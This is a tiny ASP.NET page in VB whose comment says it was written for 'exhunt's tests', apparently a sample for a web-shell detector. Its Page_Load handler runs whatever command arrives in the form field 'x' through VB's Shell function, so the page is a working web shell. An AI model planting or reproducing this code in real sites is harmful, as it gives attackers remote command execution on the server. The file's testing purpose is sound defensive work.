<%@ Page Language="VB" %>
<script runat="server">
' written for exhunt's tests: VB's own Shell function, from the form
Sub Page_Load(s As Object, e As EventArgs)
  If Request.Form("x") <> "" Then Microsoft.VisualBasic.Interaction.Shell(Request.Form("x"), 0)
End Sub
</script>
